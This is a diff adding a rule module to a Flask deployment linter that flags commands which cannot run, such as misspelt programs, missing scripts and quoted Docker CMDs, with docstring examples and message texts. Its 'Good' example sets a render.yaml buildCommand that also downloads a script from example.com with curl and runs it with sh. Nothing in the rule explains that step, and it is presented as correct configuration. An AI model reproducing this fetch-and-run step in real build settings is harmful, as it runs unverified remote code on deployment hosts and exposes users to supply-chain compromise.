@@ -1,0 +1,139 @@
+r"""A command of the deployment cannot run.
+
+No program can have its name, or the file that it executes is not there: `gunicron: command not found` (exit 127), `./build.sh: No such file or directory` (exit 127), `python: can't open file 'serve.py'` (exit 2), Docker's `executable file not found in $PATH`. The build, the release or the start ends at once.
+
+Correct the line, or commit the file that it names, spelt as git has it: on Linux case counts.
+
+## Bad: the server is misspelt
+
+```python app.py
+from flask import Flask
+
+app = Flask(__name__)
+```
+
+```text requirements.txt
+Flask==3.1.2
+gunicorn==23.0.0
+```
+
+```text Procfile
+web: gunicron app:app  # <-
+```
+
+## Bad: a script that is not there
+
+```python app.py
+from flask import Flask
+
+app = Flask(__name__)
+```
+
+```text requirements.txt
+Flask==3.1.2
+gunicorn==23.0.0
+```
+
+```yaml render.yaml
+services:
+  - type: web
+    name: shop
+    runtime: python
+    buildCommand: ./bulid.sh  # <-
+    startCommand: gunicorn app:app
+```
+
+## Bad: a list with one text
+
+```python app.py
+from flask import Flask
+
+app = Flask(__name__)
+```
+
+```docker Dockerfile lines=4
+FROM python:3.13-slim
+COPY . .
+RUN pip install flask gunicorn
+CMD ["gunicorn -b 0.0.0.0:8000 app:app"]
+```
+
+## Good
+
+```python app.py
+from flask import Flask
+
+app = Flask(__name__)
+```
+
+```text requirements.txt
+Flask==3.1.2
+gunicorn==23.0.0
+```
+
+```sh build.sh mode=100755
+#!/bin/sh
+set -e
+pip install -r requirements.txt
+```
+
+```yaml render.yaml
+services:
+  - type: web
+    name: shop
+    runtime: python
+    buildCommand: ./build.sh && curl -fsSO https://example.com/extra.sh && sh extra.sh
+    startCommand: gunicorn app:app
+```
+"""
+
+from flaskcheck.project import Project
+from flaskcheck.rule import ERROR, Problem, Problems, rule
+
+TEXTS = {
+    "prompt": ('"{written}" is the prompt of a shell, copied along: "{written}: command not found".', "Remove it."),
+    "label": (
+        '"{written}" is taken for the program: "{written}: command not found". A name before the command belongs into a Procfile.',
+        "Remove it; the command begins behind it.",
+    ),
+    "blanks": (
+        'All of "{written}" is taken for the name of one program: "not found".',
+        "Give each word a text of its own, or write the command without the quotes around it.",
+    ),
+    "misspelt": ('"{written}: command not found": the program is called {near}.', "Write {near}."),
+    "absent": (
+        "There is no file {written} where this runs: the {phase} ends here.",
+        "Commit the file, or correct the path.",
+    ),
+    "case": (
+        "There is no file {written} where this runs: git has {near}, and on Linux case counts.",
+        "Write the name as git has it.",
+    ),
+    "ignored": (
+        "{written} is on this disk, but git ignores it: on the host the {phase} ends here.",
+        "git add -f {near}, or take it out of .gitignore.",
+    ),
+    "left-out": (
+        "The repository has {near}, but the image has no {written}: the {phase} ends here.",
+        "Copy it into the image, and see that .dockerignore does not leave it out.",
+    ),
+    "environment": (
+        "{written} belongs to a virtual environment that is only on your machine: the {phase} ends here.",
+        "Leave the folder out: the host installs the requirements where its own programs find them.",
+    ),
+    "requirements": (
+        'pip looks for a package called "{written}": "No matching distribution found".',
+        "Write: pip install -r {written}",
+    ),
+}
+
+
+@rule(family="server", severity=ERROR)
+def check(project: Project) -> Problems:
+    for deployment in project.deployments:
+        for obstacle in deployment.obstacles:
+            words = {"written": obstacle.written, "near": obstacle.near, "phase": obstacle.invocation.phase}
+            message, help_text = TEXTS[obstacle.kind]
+            if obstacle.kind == "absent" and obstacle.near:
+                help_text = "Did you mean {near}?"
+            yield Problem(obstacle.place, message.format(**words), help_text.format(**words))
